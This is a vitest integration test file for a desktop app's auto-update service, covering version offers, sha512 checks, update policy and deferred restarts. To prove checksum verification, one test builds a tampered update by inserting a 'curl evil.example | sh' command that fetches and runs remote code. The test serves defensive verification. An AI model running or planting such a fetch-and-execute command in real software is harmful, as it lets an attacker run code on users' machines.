// The update service, the electron-updater adapter and electron-updater's own AppImageUpdater together,
// against a local feed over real HTTPS (feed.ts): which versions are offered, the sha512 check, the policy's
// switch-off (counted at the feed), a feed set by policy, and no restart while an activation request is in
// flight (a real one, against the emulator). No Electron binary: see real-updater.ts for the two stand-ins.
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from "vitest";
import { createUpdaterPort } from "../../electron/adapters/updater.js";
import type { Logger } from "../../electron/engine/logger.js";
import { InFlight } from "../../electron/engine/update/in-flight.js";
import { UpdateService } from "../../electron/engine/update/update-service.js";
import type { UpdateSettings } from "../../electron/engine/update/update-settings.js";
import type { UpdateState } from "../../electron/engine/update/update-state.js";
import type { UpdaterEvent } from "../../electron/engine/update/updater-port.js";
import { sha512, startFeed, type Feed } from "./feed.js";
import {
  genericFeed,
  githubFeed,
  installElectronStandIn,
  packagedApp,
  type Fake,
  type Install,
} from "./real-updater.js";

let feed: Feed;
let standIn: Awaited<ReturnType<typeof installElectronStandIn>>;
let fake: Fake;
const installs: Install[] = [];
const services: UpdateService[] = [];
const logged: string[] = [];
const logger: Logger = {
  debug: (m) => logged.push(m),
  info: (m) => logged.push(m),
  warn: (m, d) => logged.push(d instanceof Error ? `${m} ${d.message}` : m),
  error: (m, d) => logged.push(d instanceof Error ? `${m} ${d.message}` : m),
};

beforeAll(async () => {
  feed = await startFeed();
  standIn = await installElectronStandIn();
  fake = standIn.fake;
});
afterEach(() => {
  for (const s of services.splice(0)) s.stop();
  for (const i of installs.splice(0)) i.remove();
  feed.requests.length = 0;
  fake.recorded.quit = false;
});
afterAll(async () => {
  standIn.remove();
  await feed.stop();
});

const payload = (version: string) =>
  Buffer.from(`#!/bin/sh\n# PIM Tray ${version}\necho "$APPIMAGE_SILENT_INSTALL" > "$PIMTRAY_TEST_MARKER"\n`);

/** A packaged PIM Tray 0.1.0 with the service, the adapter and the real updater wired as the app wires them. */
function app(
  settings: UpdateSettings,
  o: { builtInFeed?: string; busy?: () => boolean | Promise<boolean>; loads?: { count: number } } = {},
) {
  const install = packagedApp({ fake, caPem: feed.caPem, builtInFeed: o.builtInFeed ?? genericFeed(feed.url) });
  installs.push(install);
  const events: UpdaterEvent[] = [];
  const errors: Error[] = [];
  const port = createUpdaterPort({
    logger,
    load: () => {
      if (o.loads) o.loads.count++;
      return install.updater;
    },
  });
  for (const e of [
    "checking-for-update",
    "update-available",
    "update-not-available",
    "download-progress",
    "update-downloaded",
    "error",
  ] as const)
    port.on(e, (arg?: unknown) => {
      events.push(e);
      if (e === "error") errors.push(arg as Error);
    });
  const service = new UpdateService({
    port,
    settings,
    busy: o.busy ?? (() => false),
    logger,
    firstCheckDelayMs: 10,
    intervalMs: 60_000,
    idlePollMs: 20,
  });
  services.push(service);
  const states: UpdateState[] = [];
  service.onChange((s) => states.push(s));
  service.start();
  return { install, service, events, errors, states };
}

async function until(what: string, pred: () => boolean, ms = 10_000): Promise<void> {
  for (const end = Date.now() + ms; Date.now() < end;) {
    if (pred()) return;
    await new Promise((r) => setTimeout(r, 10));
  }
  throw new Error(`timed out waiting for ${what}; the log:\n${logged.slice(-15).join("\n")}`);
}

const pending = (i: Install) =>
  existsSync(join(i.cacheDir, "pending")) ? readdirSync(join(i.cacheDir, "pending")) : [];

describe("version comparison (app 0.1.0, electron-updater's semver rules)", () => {
  it("a newer version is offered, downloaded in the background and verified: Restart to update to 0.2.0", async () => {
    feed.publish("0.2.0", payload("0.2.0"));
    const { install, service, events } = app({ mode: "auto" });
    await until("the update to be ready", () => service.state().kind === "ready");
    expect(service.state()).toEqual({ kind: "ready", version: "0.2.0", restartWhenIdle: false });
    expect(events.filter((e) => e !== "download-progress")).toEqual([
      "checking-for-update",
      "update-available",
      "update-downloaded",
    ]);
    expect(feed.requests).toEqual([`/latest${suffix()}.yml`, "/PIM-Tray-0.2.0.AppImage"]);
    const file = join(install.cacheDir, "pending", "PIM-Tray-0.2.0.AppImage");
    expect(sha512(readFileSync(file))).toBe(sha512(payload("0.2.0")));
    // Nothing is installed until a restart: the running AppImage is untouched.
    expect(readFileSync(install.appImage, "utf8")).toContain("0.1.0");
  });

  for (const [version, why] of [
    ["0.1.0", "the same version"],
    ["0.0.9", "an older version (no downgrades)"],
    ["0.2.0-beta.1", "a prerelease, when prereleases are not allowed"],
  ] as const) {
    it(`${why} is not offered, and nothing is downloaded`, async () => {
      feed.publish(version, payload(version));
      const { service, events } = app({ mode: "auto" });
      await until("the check", () => service.state().kind === "idle" && events.includes("update-not-available"));
      expect(service.state()).toMatchObject({ kind: "idle", latest: version });
      expect(events).toEqual(["checking-for-update", "update-not-available"]);
      expect(feed.requests).toEqual([`/latest${suffix()}.yml`]);
    });
  }

  it("a prerelease is offered when the settings allow prereleases", async () => {
    feed.publish("0.2.0-beta.1", payload("0.2.0-beta.1"));
    const { service } = app({ mode: "auto", allowPrerelease: true });
    await until("the update to be ready", () => service.state().kind === "ready");
    expect(service.state()).toMatchObject({ kind: "ready", version: "0.2.0-beta.1" });
  });
});

/** The channel file electron-updater asks for on this OS. */
function suffix(): string {
  return process.platform === "darwin" ? "-mac" : process.platform === "win32" ? "" : "-linux";
}

describe("the sha512 check", () => {
  it("refuses a tampered payload with electron-updater's own error: nothing is kept, nothing installed", async () => {
    const genuine = payload("0.2.0");
    const tampered = Buffer.from(genuine.toString().replace("echo", "curl evil.example | sh; echo"));
    feed.publish("0.2.0", genuine, tampered);
    const { install, service, events, errors } = app({ mode: "auto" });
    await until("the download to fail", () => service.state().kind === "error");
    expect(feed.requests).toContain("/PIM-Tray-0.2.0.AppImage");
    const err = errors[0] as Error & { code?: string };
    expect(err.code).toBe("ERR_CHECKSUM_MISMATCH");
    expect(err.message).toContain(`sha512 checksum mismatch, expected ${sha512(genuine)}, got ${sha512(tampered)}`);
    expect(events).not.toContain("update-downloaded");
    const state = service.state();
    expect(state.kind === "error" && state.message).toMatch(
      /did not match the checksum its feed published, so it was deleted and nothing was installed/,
    );
    expect(pending(install)).toEqual([]);
    expect(readFileSync(install.appImage, "utf8")).toContain("0.1.0");
    expect(await service.restart()).toMatchObject({ restarting: false });
    expect(fake.recorded.quit).toBe(false);
  });
});

describe("policy", () => {
  it("mode off: no request reaches the feed, whatever the service is asked, and electron-updater is never loaded", async () => {
    feed.publish("0.2.0", payload("0.2.0"));
    const loads = { count: 0 };
    const { service } = app({ mode: "off" }, { loads });
    expect(service.state()).toMatchObject({ kind: "disabled", by: "policy" });
    await service.checkNow();
    service.wake();
    expect(await service.restart()).toMatchObject({ restarting: false });
    await new Promise((r) => setTimeout(r, 200)); // past the first check's delay, many times over
    expect(feed.requests).toEqual([]);
    expect(loads.count).toBe(0);
  });

  it("turned off while running: the checks stop at once", async () => {
    feed.publish("0.1.0", payload("0.1.0"));
    const { service } = app({ mode: "auto" });
    await until("the first check", () => service.state().kind === "idle" && feed.requests.length === 1);
    service.applySettings({ mode: "off" });
    await service.checkNow();
    service.wake();
    await new Promise((r) => setTimeout(r, 200));
    expect(feed.requests).toHaveLength(1);
    expect(service.state()).toMatchObject({ kind: "disabled", by: "policy" });
  });

  it("a feed set by policy replaces the built-in GitHub feed: the update comes from it", async () => {
    feed.publish("0.2.0", payload("0.2.0"));
    const { service } = app(
      { mode: "manual", feedUrl: feed.url },
      { builtInFeed: githubFeed("example-org", "pimtray") },
    );
    // "manual": no check of its own.
    await new Promise((r) => setTimeout(r, 100));
    expect(feed.requests).toEqual([]);
    await service.checkNow();
    await until("the update to be ready", () => service.state().kind === "ready");
    expect(feed.requests).toEqual([`/latest${suffix()}.yml`, "/PIM-Tray-0.2.0.AppImage"]);
  });

  it("a feed set by policy that is not https is refused before anything is fetched", async () => {
    const { service } = app({ mode: "auto", feedUrl: feed.url.replace("https:", "http:") });
    await service.checkNow();
    expect(service.state()).toMatchObject({ kind: "error" });
    expect(service.state().kind === "error" && (service.state() as { message: string }).message).toMatch(/not https/);
    expect(feed.requests).toEqual([]);
  });
});

describe("the adapter's own loader", () => {
  it("finds electron-updater's autoUpdater singleton through import(), as the app does; unpackaged, it asks nothing", async () => {
    // (Under Node, electron-updater also warns on stderr that it cannot read process.resourcesPath: Electron sets it.)
    const port = createUpdaterPort({ logger });
    port.configure({ autoDownload: true, autoInstallOnAppQuit: true, allowPrerelease: false, feedUrl: null });
    // The Electron fake's app is not packaged (and APPIMAGE is unset): electron-updater's own isUpdaterActive says no.
    expect(await port.checkForUpdates()).toMatchObject({ ran: false });
    expect(logged).toContain("electron-updater: APPIMAGE env is not defined, current application is not an AppImage");
    expect(feed.requests).toEqual([]);
  });
});

describe("restart", () => {
  const posix = process.platform !== "win32";
  let emuTeardown: (() => Promise<void>) | null = null;
  afterAll(async () => {
    await emuTeardown?.();
  });

  it("never restarts while an activation request is in flight; restarts once it has finished, because the user asked", async (t) => {
    if (!posix) return t.skip("the AppImage install moves files with mv and starts a shell script: not on Windows");
    const { startTestEmulator } = await import("../helpers/emulator.js");
    const { engineAgainst } = await import("../helpers/engine.js");
    const { DEMO_GROUPS } = await import("../../emulator/index.js");
    const emu = await startTestEmulator({
      settings: { provisioningDelayMs: 1500, deviceCodeAutoApprove: "adele", deviceCodeIntervalSeconds: 0 },
    });
    const engineDir = mkdtempSync(join(tmpdir(), "pimtray-update-engine-"));
    emuTeardown = async () => {
      rmSync(engineDir, { recursive: true, force: true });
      await emu.stop();
    };
    const engine = await engineAgainst(emu, engineDir);
    const inFlight = new InFlight();

    feed.publish("0.2.0", payload("0.2.0"));
    const { install, service } = app({ mode: "auto" }, { busy: () => inFlight.busy() });
    await until("the update to be ready", () => service.state().kind === "ready");
    const marker = join(install.dir, "started-by-update");
    vi.stubEnv("PIMTRAY_TEST_MARKER", marker);

    // An activation: its request is in flight until PIM has provisioned it (1.5 s here).
    const target = { groupId: DEMO_GROUPS.financeAdmins, accessId: "member" as const, groupName: "Finance Admins" };
    const activation = inFlight.track(() => engine.activation.activate({ target, justification: "update test" }));
    await until("the request to be in flight", () => inFlight.busy());

    const outcome = await service.restart();
    expect(outcome).toEqual({
      restarting: false,
      whenIdle: true,
      reason:
        "An activation request is still in flight, so PIM Tray does not restart now: it restarts to update to 0.2.0 as soon as the request has finished.",
    });
    expect(service.state()).toEqual({ kind: "ready", version: "0.2.0", restartWhenIdle: true });
    // Polled every 20 ms while the request is in flight: nothing quits, nothing is replaced.
    await new Promise((r) => setTimeout(r, 300));
    expect(inFlight.busy()).toBe(true);
    expect(fake.recorded.quit).toBe(false);
    expect(readFileSync(install.appImage, "utf8")).toContain("0.1.0");

    expect((await activation).status).toBe("active");
    await until("the app to quit for the update", () => fake.recorded.quit);
    // electron-updater installed it: the old AppImage is gone, the new one sits beside it and was started.
    const installed = join(dirname(install.appImage), "PIM-Tray-0.2.0.AppImage");
    expect(existsSync(install.appImage)).toBe(false);
    expect(readFileSync(installed)).toEqual(payload("0.2.0"));
    // The shell creates the file before it writes to it: wait for what the new version wrote.
    await until("the new version to start", () => existsSync(marker) && readFileSync(marker, "utf8").trim() === "true");
    vi.unstubAllEnvs();
  });

  it("an update that is ready never restarts on its own when the app becomes idle", async () => {
    feed.publish("0.2.0", payload("0.2.0"));
    let busy = true;
    const { install, service } = app({ mode: "auto" }, { busy: () => busy });
    await until("the update to be ready", () => service.state().kind === "ready");
    busy = false;
    await new Promise((r) => setTimeout(r, 200));
    expect(fake.recorded.quit).toBe(false);
    expect(readFileSync(install.appImage, "utf8")).toContain("0.1.0");
  });

  it("a restart asked for while busy, then cancelled, does not happen", async () => {
    feed.publish("0.2.0", payload("0.2.0"));
    let busy = true;
    const { install, service } = app({ mode: "auto" }, { busy: () => busy });
    await until("the update to be ready", () => service.state().kind === "ready");
    expect(await service.restart()).toMatchObject({ restarting: false, whenIdle: true });
    service.cancelRestart();
    busy = false;
    await new Promise((r) => setTimeout(r, 200));
    expect(fake.recorded.quit).toBe(false);
    expect(service.state()).toEqual({ kind: "ready", version: "0.2.0", restartWhenIdle: false });
    expect(readFileSync(install.appImage, "utf8")).toContain("0.1.0");
  });
});
